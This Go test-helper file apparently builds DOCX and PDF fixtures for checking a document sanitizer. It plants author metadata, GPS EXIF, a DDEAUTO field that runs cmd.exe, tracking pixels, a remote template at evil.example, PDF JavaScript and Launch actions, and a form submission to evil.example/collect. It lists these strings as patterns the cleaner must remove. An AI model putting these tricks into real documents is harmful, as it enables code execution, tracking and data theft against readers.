package testenv

import (
	"archive/zip"
	"bytes"
	"fmt"
	"strings"
	"testing"
)

// TraceName is the submitter's name hidden in the metadata, comments and
// tracked changes of DOCXWithTraces and PDFWithTraces.
const TraceName = "Rosa Example"

// DOCXTraces are byte strings of DOCXWithTraces that must not survive
// cleaning in any part: who wrote it, where the photo was taken, and what
// would run or be fetched when it is opened.
func DOCXTraces() []string {
	return []string{TraceName, GPSMarker, "Exif\x00\x00", "rosa@example.org", "beacon.example", "evil.example",
		"EAUTO", "INCLUDEPICTURE", "cmd.exe", "00AB12CD", "2026-11-30"}
}

// PDFTraces are byte strings of PDFWithTraces that must not survive
// cleaning in the file or any of its decoded streams.
func PDFTraces() []string {
	return []string{TraceName, GPSMarker, "Exif\x00\x00", "xmpmeta", "evil.example", "cmd.exe", "calc.exe",
		"JavaScript", "Launch", "SubmitForm", "FileAttachment", "EmbeddedFile", "secret content", "OpenAction"}
}

// DOCXWithTraces returns a Word document with every trace DOCXTraces
// lists: properties naming the author and company, a comment, a tracked
// change and people.xml by her, a photo with GPS shown cropped, a remote
// template, an external image, a DDEAUTO field split over two runs and an
// INCLUDEPICTURE field. It also has a web link and the text "Mi historia",
// which stay.
func DOCXWithTraces(t testing.TB) []byte {
	t.Helper()
	const (
		w   = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
		r   = `xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
		rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
		hdr = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
		ct  = "application/vnd.openxmlformats-officedocument."
	)
	drawing := func(attr, crop string) string {
		return `<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">` +
			`<wp:extent cx="609600" cy="457200"/><wp:docPr id="1" name="Photo"/>` +
			`<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">` +
			`<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="Photo"/><pic:cNvPicPr/></pic:nvPicPr>` +
			`<pic:blipFill><a:blip ` + attr + `/>` + crop + `<a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
			`<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="609600" cy="457200"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>` +
			`</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`
	}
	parts := []struct{ name, body string }{
		{"[Content_Types].xml", hdr + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Default Extension="xml" ContentType="application/xml"/><Default Extension="jpeg" ContentType="image/jpeg"/>` +
			`<Override PartName="/word/document.xml" ContentType="` + ct + `wordprocessingml.document.main+xml"/>` +
			`<Override PartName="/word/settings.xml" ContentType="` + ct + `wordprocessingml.settings+xml"/>` +
			`<Override PartName="/word/comments.xml" ContentType="` + ct + `wordprocessingml.comments+xml"/>` +
			`<Override PartName="/word/people.xml" ContentType="application/vnd.ms-word.people+xml"/>` +
			`<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>` +
			`<Override PartName="/docProps/app.xml" ContentType="` + ct + `extended-properties+xml"/>` +
			`<Override PartName="/docProps/custom.xml" ContentType="` + ct + `custom-properties+xml"/></Types>`},
		{"_rels/.rels", hdr + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="` + rel + `officeDocument" Target="word/document.xml"/>` +
			`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>` +
			`<Relationship Id="rId3" Type="` + rel + `extended-properties" Target="docProps/app.xml"/>` +
			`<Relationship Id="rId4" Type="` + rel + `custom-properties" Target="docProps/custom.xml"/></Relationships>`},
		{"docProps/core.xml", hdr + `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">` +
			`<dc:creator>` + TraceName + `</dc:creator><cp:lastModifiedBy>` + TraceName + `</cp:lastModifiedBy></cp:coreProperties>`},
		{"docProps/app.xml", hdr + `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">` +
			`<Company>` + TraceName + ` Cleaning LLC</Company><Manager>` + TraceName + `</Manager></Properties>`},
		{"docProps/custom.xml", hdr + `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">` +
			`<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Owner"><vt:lpwstr>` + TraceName + `</vt:lpwstr></property></Properties>`},
		{"word/_rels/document.xml.rels", hdr + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="` + rel + `settings" Target="settings.xml"/>` +
			`<Relationship Id="rId2" Type="` + rel + `comments" Target="comments.xml"/>` +
			`<Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2011/relationships/people" Target="people.xml"/>` +
			`<Relationship Id="rId4" Type="` + rel + `image" Target="media/image1.jpeg"/>` +
			`<Relationship Id="rId5" Type="` + rel + `image" Target="http://beacon.example/pixel.png" TargetMode="External"/>` +
			`<Relationship Id="rId6" Type="` + rel + `hyperlink" Target="https://example.org/source" TargetMode="External"/></Relationships>`},
		{"word/document.xml", hdr + `<w:document ` + w + ` ` + r + `><w:body>` +
			`<w:p w:rsidR="00AB12CD"><w:r><w:t>Mi historia</w:t></w:r></w:p>` +
			`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>` +
			`<w:r><w:instrText xml:space="preserve">EAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r>` +
			`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown text</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
			`<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://beacon.example/track.png&quot; \d "><w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p>` +
			`<w:p><w:hyperlink r:id="rId6"><w:r><w:t>a source</w:t></w:r></w:hyperlink></w:p>` +
			`<w:p><w:ins w:id="1" w:author="` + TraceName + `" w:date="2026-11-30T22:41:00Z"><w:r><w:t>added later</w:t></w:r></w:ins>` +
			`<w:commentRangeStart w:id="0"/><w:r><w:t>commented</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>` +
			`<w:p>` + drawing(`r:embed="rId4"`, `<a:srcRect l="25000"/>`) + drawing(`r:link="rId5"`, "") + `</w:p>` +
			`</w:body></w:document>`},
		{"word/_rels/settings.xml.rels", hdr + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="` + rel + `attachedTemplate" Target="http://evil.example/template.dotm" TargetMode="External"/></Relationships>`},
		{"word/settings.xml", hdr + `<w:settings ` + w + ` ` + r + `><w:attachedTemplate r:id="rId1"/>` +
			`<w:rsids><w:rsidRoot w:val="00AB12CD"/><w:rsid w:val="00AB12CD"/></w:rsids></w:settings>`},
		{"word/comments.xml", hdr + `<w:comments ` + w + `><w:comment w:id="0" w:author="` + TraceName + `" w:initials="RE" w:date="2026-11-30T22:41:00Z">` +
			`<w:p><w:r><w:t>check this</w:t></w:r></w:p></w:comment></w:comments>`},
		{"word/people.xml", hdr + `<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">` +
			`<w15:person w15:author="` + TraceName + `"><w15:presenceInfo w15:providerId="AD" w15:userId="rosa@example.org"/></w15:person></w15:people>`},
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	add := func(name string, body []byte) {
		f, err := zw.Create(name)
		if err == nil {
			_, err = f.Write(body)
		}
		if err != nil {
			t.Fatalf("testenv: docx: %v", err)
		}
	}
	for _, p := range parts {
		add(p.name, []byte(p.body))
	}
	add("word/media/image1.jpeg", JPEGWithGPS(t))
	if err := zw.Close(); err != nil {
		t.Fatalf("testenv: docx: %v", err)
	}
	return buf.Bytes()
}

// PDFWithTraces returns a one-page PDF with every trace PDFTraces lists: an Info dictionary and an XMP packet naming the
// author, a JavaScript open action, document and page additional actions
// that launch programs, a JavaScript name tree, an embedded file and a
// file-attachment annotation, a sticky note by her, a link whose next action
// submits a form, her digital signature, and a photo with GPS drawn on the
// page. The link to
// https://example.org/source and the photo's pixels stay.
func PDFWithTraces(t testing.TB) []byte {
	t.Helper()
	photo := JPEGWithGPS(t)
	xmp := `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>` + TraceName + `</dc:creator></x:xmpmeta><?xpacket end="w"?>`
	objs := []string{
		1: `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Metadata 6 0 R /AA << /WC 11 0 R >> /AcroForm << /Fields [16 0 R] /SigFlags 3 >>` +
			` /Names << /JavaScript << /Names [(init) 5 0 R] >> /EmbeddedFiles << /Names [(secret.txt) 9 0 R] >> >> >>`,
		2: `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
		3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /XObject << /Im1 7 0 R >> >>` +
			` /Annots [8 0 R 10 0 R 14 0 R 15 0 R 16 0 R] /AA << /O 11 0 R >> >>`,
		4:  "stream:q 128 0 0 96 36 52 cm /Im1 Do Q",
		5:  `<< /Type /Action /S /JavaScript /JS (app.alert\('` + TraceName + `'\)) >>`,
		6:  "xmp:" + xmp,
		7:  "image:",
		8:  `<< /Type /Annot /Subtype /Link /Rect [0 0 20 20] /A << /S /Launch /F (cmd.exe) >> >>`,
		9:  `<< /Type /Filespec /F (secret.txt) /EF << /F 12 0 R >> >>`,
		10: `<< /Type /Annot /Subtype /FileAttachment /Rect [20 0 40 20] /FS 9 0 R /T (` + TraceName + `) /Contents (attached) >>`,
		11: `<< /S /Launch /F (calc.exe) >>`,
		12: "file:secret content of " + TraceName,
		13: `<< /Author (` + TraceName + `) /Creator (` + TraceName + `'s laptop) /Title (Mi historia) >>`,
		14: `<< /Type /Annot /Subtype /Text /Rect [40 0 60 20] /T (` + TraceName + `) /Contents (check this) >>`,
		15: `<< /Type /Annot /Subtype /Link /Rect [60 0 80 20] /A << /S /URI /URI (https://example.org/source)` +
			` /Next << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >> >> >>`,
		16: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 0 0] /P 3 0 R /F 132 /V 17 0 R >>`,
		17: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Name (` + TraceName + `)` +
			` /Location (calc.exe street) /M (D:20261130224100Z) /ByteRange [0 10 20 10] /Contents <0000> >>`,
	}
	return buildPDF(objs, 13, func(o string) string {
		stream := func(dict, data string) string {
			return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
		}
		switch {
		case strings.HasPrefix(o, "stream:"):
			return stream("", strings.TrimPrefix(o, "stream:"))
		case strings.HasPrefix(o, "xmp:"):
			return stream("/Type /Metadata /Subtype /XML", strings.TrimPrefix(o, "xmp:"))
		case strings.HasPrefix(o, "file:"):
			return stream("/Type /EmbeddedFile", strings.TrimPrefix(o, "file:"))
		case o == "image:":
			return stream("/Type /XObject /Subtype /Image /Width 64 /Height 48 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode", string(photo))
		}
		return o
	})
}

// MinimalPDF returns a valid one-page PDF with nothing in it: what tests
// that only need some PDF submit, now that every PDF is read and rewritten.
func MinimalPDF() []byte {
	objs := []string{
		1: `<< /Type /Catalog /Pages 2 0 R >>`,
		2: `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
		3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>`,
	}
	return buildPDF(objs, 0, func(o string) string { return o })
}

// buildPDF writes objects 1… (objs[0] is unused), each as body returns it,
// with a cross-reference table whose offsets are right; info, if not 0, is
// the Info dictionary's object number.
func buildPDF(objs []string, info int, body func(string) string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offsets := make([]int, len(objs))
	for i := 1; i < len(objs); i++ {
		offsets[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i, body(objs[i]))
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs))
	for i := 1; i < len(objs); i++ {
		fmt.Fprintf(&b, "%010d 00000 n \n", offsets[i])
	}
	trailer := fmt.Sprintf("/Size %d /Root 1 0 R", len(objs))
	if info > 0 {
		trailer += fmt.Sprintf(" /Info %d 0 R", info)
	}
	fmt.Fprintf(&b, "trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n", trailer, xref)
	return b.Bytes()
}

// Unzip reads every file of a ZIP archive (an export, a DOCX) by name, as
// text.
func Unzip(t testing.TB, data []byte) map[string]string {
	t.Helper()
	out := map[string]string{}
	for name, b := range DOCXParts(t, data) {
		out[name] = string(b)
	}
	return out
}
